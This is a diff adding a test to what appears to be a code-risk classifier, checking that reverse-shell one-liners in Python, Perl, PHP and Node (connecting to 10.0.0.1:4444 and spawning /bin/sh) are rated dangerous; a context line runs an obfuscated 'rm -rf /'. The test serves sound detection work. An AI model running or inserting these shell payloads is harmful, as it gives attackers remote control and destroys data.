@@ -259,3 +259,23 @@ test('code that is made to be hard to read is a caution, and soon done', () => {
   for (const code of javaScript) assert.ok(['caution', undefined].includes(worst('node', code)), code.slice(0, 40));
   assert.equal(worst('python', `x = 'rm -rf /'\n${'x = x\n'.repeat(100)}import os; os.system(x)`), 'danger');
 });
+
+test('code that connects to others and starts a shell without commands gives them that shell', () => {
+  every('danger', 'python', [
+    'import socket,subprocess,os;s=socket.socket();s.connect(("10.0.0.1",4444));[os.dup2(s.fileno(),i) for i in (0,1,2)];subprocess.call(["/bin/sh","-i"])',
+    'import socket,pty;s=socket.socket();s.connect(("10.0.0.1",4444));pty.spawn("bash")',
+  ]);
+  every('danger', 'perl', [
+    'use Socket;socket(S,2,1,6);connect(S,sockaddr_in(4444,inet_aton("10.0.0.1")));open(STDIN,">&S");exec("/bin/sh -i");',
+  ]);
+  every('danger', 'php', ['$s=fsockopen("10.0.0.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");']);
+  every('danger', 'node', [
+    'var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);var c=new net.Socket();c.connect(4444,"10.0.0.1",function(){c.pipe(sh.stdin)})',
+  ]);
+  every('caution', 'python', [
+    'import subprocess,requests; requests.get("http://x"); subprocess.run(["bash","x.sh"])',
+    'import subprocess,requests; requests.get("http://x"); subprocess.run("bash -c ls", shell=True)',
+    'import socket; s=socket.socket(); s.connect(("10.0.0.1", 80))',
+  ]);
+  every(undefined, 'python', ['import subprocess; subprocess.run(["bash"])']);
+});
